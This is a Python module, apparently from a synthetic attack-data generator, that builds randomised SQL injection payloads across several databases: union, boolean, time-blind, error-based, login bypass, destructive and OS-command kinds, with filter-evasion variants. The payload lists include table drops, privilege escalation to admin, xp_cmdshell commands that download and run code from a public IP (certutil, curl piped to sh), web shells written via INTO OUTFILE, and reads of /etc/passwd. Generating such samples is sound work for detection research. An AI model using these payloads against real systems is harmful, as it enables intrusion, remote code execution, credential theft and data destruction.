"""SQL injections of several databases, by what they are after."""

from __future__ import annotations

import re

from generator.families.web.encoding import mixed_case
from generator.world import World


def _tail(world: World) -> str:
    return world.pick(["-- -", "--", "#", "-- ", "--+", "/*", ";--", "", ";%00", "-- " + world.word(4)])


def _open(world: World) -> str:
    """How the payload leaves the value it stands in."""
    return world.pick(["'", "1'", f"{world.number(1, 900)}", "-1", "-1'", '"', "')", "1)", "'))", f"{world.word(4)}'", "0", '1"', f"{world.number(1, 99)}')"])


def _table(world: World) -> str:
    return world.pick(["users", "wp_users", "admin", "accounts", "customers", "members", "jos_users", "tbl_user", "employees", "login", "payments", "oc_user", "admin_user", "dbo.Users", "public.users", "credit_cards"])


def _columns(world: World, count: int) -> str:
    filler = world.pick(["null", "NULL", "1", "'a'", "0x31"])
    columns = [filler if filler != "1" else str(number + 1) for number in range(count)]
    loot = world.pick(["version()", "@@version", "database()", "user()", "concat(username,0x3a,password)", "group_concat(table_name)", "user_login||':'||user_pass", "load_file('/etc/passwd')", "banner", "sqlite_version()", "current_database()", "group_concat(email,0x7c,passwd)", "unhex(hex(user()))", "password", "string_agg(email,',')", "sql", "DB_NAME()", "char(113,118,113)", "CONCAT_WS(0x203a20,USER(),DATABASE(),VERSION())"])
    columns[world.number(0, count - 1)] = loot
    return ",".join(columns)


def union_based(world: World) -> str:
    keyword = world.pick(["UNION SELECT", "union select", "UNION ALL SELECT", "union all select", "UNION DISTINCT SELECT", "Union/**/Select", "/*!50000UNION*//*!50000SELECT*/", "UNION(SELECT", "%55nion sElect", "union%0aselect", "UNI/**/ON SEL/**/ECT"])
    source = world.pick(["", f" FROM {_table(world)}", " from information_schema.tables", " FROM information_schema.columns WHERE table_name='" + _table(world) + "'", " from dual", " FROM all_tables", " from sqlite_master", " FROM sysobjects WHERE xtype='U'", " from pg_catalog.pg_tables", " FROM mysql.user limit 1,1", " from INFORMATION_SCHEMA.SCHEMATA"])
    return f"{_open(world)} {keyword} {_columns(world, world.number(1, 12))}{source}{')' if '(' in keyword else ''}{_tail(world)}"


def boolean(world: World) -> str:
    number = world.number(1, 9999)
    condition = world.pick([f"{number}={number}", f"{number}={number + 1}", f"'{world.hex(4)}'='{world.hex(4)}", "'a'='a", "'x' LIKE 'x", "substring(version(),1,1)=5", "ascii(substr((select password from users limit 1),1,1))>77", "(select count(*) from information_schema.tables)>0", "length(database())=8", "exists(select * from users)", "1=(select 1 from admin where username='admin' and length(password)>7)", "unicode(substring((select top 1 name from sysobjects),1,1))<97", "(select substr(banner,1,1) from v$version where rownum=1)='O'", "5 BETWEEN 1 AND 9", "not 7=8", "mid(user(),1,1)='r'", "IF(1=1,1,0)", "@@version like '%m%'", "bit_length('a')=8", "rlike (select (case when (2=2) then 1 else 0x28 end))"])
    operator = world.pick(["AND", "and", "OR", "or", "&&", "||", "XOR", "AND NOT", "having", "/**/and/**/", "RLIKE", "aNd"])
    extra = world.pick(["", "", f" ORDER BY {world.number(1, 30)}", f" group by {world.number(1, 9)},{world.number(1, 9)}", f" limit 1 offset {world.number(0, 9)}"])
    return f"{_open(world)} {operator} {condition}{extra}{_tail(world)}"


def time_based(world: World) -> str:
    seconds = world.pick([2, 3, 5, 6, 7, 10, 15, 20])
    return _open(world) + world.pick([
        f" AND SLEEP({seconds}){_tail(world)}", f" AND (SELECT {world.number(1000, 9999)} FROM (SELECT(SLEEP({seconds})))a){_tail(world)}", f"; WAITFOR DELAY '0:0:{seconds}'{_tail(world)}", f";WAITFOR DELAY '00:00:{seconds:02d}'--", f" || pg_sleep({seconds}){_tail(world)}", f";SELECT pg_sleep({seconds})--",
        f" AND 1=DBMS_PIPE.RECEIVE_MESSAGE(CHR(65)||CHR(78),{seconds}){_tail(world)}", f" AND BENCHMARK({seconds}000000,MD5('{world.word(3)}')){_tail(world)}", f" OR IF(ASCII(SUBSTR(database(),1,1))>100,SLEEP({seconds}),0){_tail(world)}", f" and 1=(case when (1=1) then (select 1 from pg_sleep({seconds})) else 1 end){_tail(world)}",
        f"xor(if(now()=sysdate(),sleep({seconds}),0))xor'Z", f'"XOR(if(now()=sysdate(),sleep({seconds}),0))XOR"Z', f" or sleep({seconds})='", f"-IF(MID(VERSION(),1,1)='8',SLEEP({seconds}),0){_tail(world)}", f" AND {world.number(1000, 9999)}=LIKE('ABCDEFG',UPPER(HEX(RANDOMBLOB({seconds}00000000/2)))){_tail(world)}", f" AND 1=dbms_lock.sleep({seconds})--", f";DECLARE @x CHAR(9);SET @x=0x303a303a35;WAITFOR DELAY @x--", f" procedure analyse(extractvalue(rand(),concat(0x3a,sleep({seconds}))),1)#", f" RLIKE SLEEP({seconds}){_tail(world)}",
    ])


def error_based(world: World) -> str:
    loot = world.pick(["version()", "user()", "database()", "@@datadir", "(select password from users limit 0,1)", "(select table_name from information_schema.tables limit 1)"])
    return _open(world) + world.pick([
        f" AND extractvalue(1,concat(0x7e,{loot},0x7e)){_tail(world)}", f" and updatexml(1,concat(0x7e,{loot}),1){_tail(world)}", f" AND (SELECT 1 FROM(SELECT COUNT(*),CONCAT({loot},FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a){_tail(world)}", f" and 1=convert(int,@@version){_tail(world)}", f" AND 1=CONVERT(int,(SELECT TOP 1 name FROM sysobjects)){_tail(world)}",
        f" and 1=cast((select version()) as int){_tail(world)}", f" AND CTXSYS.DRITHSX.SN(1,(SELECT banner FROM v$version WHERE rownum=1))=1{_tail(world)}", f" and utl_inaddr.get_host_name((select user from dual)) is not null--", f" AND GTID_SUBSET(CONCAT(0x7e,{loot}),1){_tail(world)}", f" AND exp(~(select * from (select {loot})a)){_tail(world)}", f" AND polygon((select*from(select {loot})a)){_tail(world)}",
        f" and json_keys((select convert((select {loot}) using utf8))){_tail(world)}", f" AND 5=CAST((CHR(113)||(SELECT usename FROM pg_user LIMIT 1)::text||CHR(113)) AS NUMERIC){_tail(world)}", f" or 1 group by concat({loot},floor(rand(0)*2)) having min(0) or 1#", f" AND XMLType('<:'||(select user from dual)||'>')=1--", f" AND 1=(SELECT UPPER(XMLType(CHR(60)||CHR(58)||(SELECT user FROM dual))) FROM DUAL)--", f" and 1/(select case when (1=1) then 0 else 1 end)=1--",
    ])


def bypass(world: World) -> str:
    user = world.pick(["admin", "administrator", "root", "user", "Admin", world.user(), ""])
    return world.pick([f"{user}'--", f"{user}' --", f"{user}'#", f"{user}'/*", f"{user}' OR '1'='1", f"' or 1=1{_tail(world)}", "' OR 'x'='x", f"{user}' or '1'='1'{_tail(world)}", f"') or ('1'='1{_tail(world)}", '" or ""="', '" OR 1=1 -- -', f"{user}' or 1=1 limit 1{_tail(world)}", "' or true--", f"' UNION SELECT 1,'{user or 'admin'}','81dc9bdb52d04dc20036dbd8313ed055'-- -", "'=''or'", "'-'", "' || '1'='1", f"{user}' AND 1=0 UNION ALL SELECT '{user}', '5f4dcc3b5aa765d61d8327deb882cf99'--", f"{user}')--", "' or ''='", "1' or 1 -- -", "x' OR full_name LIKE '%bob%", "' or uid=1#", "'oR/**/2>1#", "' or '7'>'1"])


def destructive(world: World) -> str:
    table = _table(world)
    return _open(world) + world.pick([f"; DROP TABLE {table}{_tail(world)}", f";DROP DATABASE {world.pick(['shop', 'wordpress', 'production', 'webapp'])}{_tail(world)}", f"; DELETE FROM {table} WHERE 1=1{_tail(world)}", f";TRUNCATE TABLE {table}{_tail(world)}", f"; UPDATE {table} SET password='{world.hex(32)}' WHERE id=1{_tail(world)}", f";UPDATE {table} SET role='admin' WHERE username='{world.user()}'--", f"; INSERT INTO {table}(username,password,role) VALUES('{world.word(5)}','{world.word(8)}','admin')--", f";ALTER TABLE {table} DROP COLUMN email{_tail(world)}", f"; drop table if exists {table} cascade;--", f";SHUTDOWN WITH NOWAIT{_tail(world)}", f";update {table} set balance=99999 where id={world.number(1, 90)}--", f";begin execute immediate 'drop table {table}'; end;--", f";DROP VIEW v_{table};--", f"; delete from orders{_tail(world)}", f";drop schema public cascade{_tail(world)}", f"; update wp_options set option_value='http://{world.word(6)}.top' where option_name='siteurl'#", f";RENAME TABLE {table} TO {world.word(5)}#"])


def command(world: World) -> str:
    order = world.pick(["whoami", "dir c:\\", "net user", "ipconfig /all", "powershell -enc " + world.hex(20).upper() + "==", "ping -n 3 " + world.ip_public(), f"certutil -urlcache -f http://{world.ip_public()}/{world.word(4)}.exe c:\\windows\\temp\\a.exe", "net localgroup administrators", "id", f"curl http://{world.ip_public()}/{world.word(3)}.sh|sh", "nslookup " + world.word(12) + ".oastify.com"])
    return _open(world) + world.pick([f"; EXEC xp_cmdshell '{order}'{_tail(world)}", f";exec master..xp_cmdshell '{order}'--", f";EXEC master.dbo.xp_cmdshell N'{order}';--", f"; EXEC sp_configure 'show advanced options',1;RECONFIGURE;EXEC sp_configure 'xp_cmdshell',1;RECONFIGURE--", f";declare @q varchar(99);set @q='\\\\{world.ip_public()}\\{world.word(4)}';exec master.dbo.xp_dirtree @q--", f";COPY (SELECT '') TO PROGRAM '{order}'--", f";CREATE TABLE c(o text);COPY c FROM PROGRAM '{order}'--", f" UNION SELECT '<?php system($_GET[0]);?>' INTO OUTFILE '/var/www/html/{world.word(4)}.php'{_tail(world)}", f" union select 1,sys_exec('{order}'){_tail(world)}", f" UNION SELECT 1,sys_eval('{order}'),3#", f" LIMIT 0,1 INTO OUTFILE '/var/www/html/tmp{world.word(4)}.php' LINES TERMINATED BY 0x3c3f706870--", f";declare @o int;exec sp_oacreate 'wscript.shell',@o out;exec sp_oamethod @o,'run',null,'{order}'--", f" and dbms_java.runjava('oracle/aurora/util/Wrapper {order}') is not null--", f";exec xp_regread 'HKEY_LOCAL_MACHINE','SYSTEM\\CurrentControlSet\\Services','x'--", f" union select lo_import('/etc/passwd'),2--", f" and dbms_scheduler.create_job('j','EXECUTABLE','{order}') is null--"])


KINDS = {
    "union": ("SQL Injection — UNION-based SQLi", union_based),
    "boolean": ("SQL Injection — Union/Boolean SQLi", boolean),
    "time-blind": ("SQL Injection — Time-based Blind SQLi", time_based),
    "error": ("SQL Injection — Error-based SQLi", error_based),
    "login-bypass": ("SQL Injection — Authentication Bypass SQLi", bypass),
    "destructive": ("SQL Injection — Destructive SQLi", destructive),
    "command": ("SQL Injection — OS Command via SQLi", command),
}


def payload(world: World, kind: str) -> str:
    """An injection of that kind, sometimes with comments or mixed case against filters."""
    text = KINDS[kind][1](world)
    draw = world.rng.random()
    if draw < 0.08:
        return text.replace(" ", world.pick(["/**/", "/*x*/", "\t", "\n", "+", "%0b", "/*!*/"]))
    if draw < 0.16:
        return re.sub(r"\b[a-zA-Z]{3,}\b", lambda match: mixed_case(world, match.group()), text)
    return text
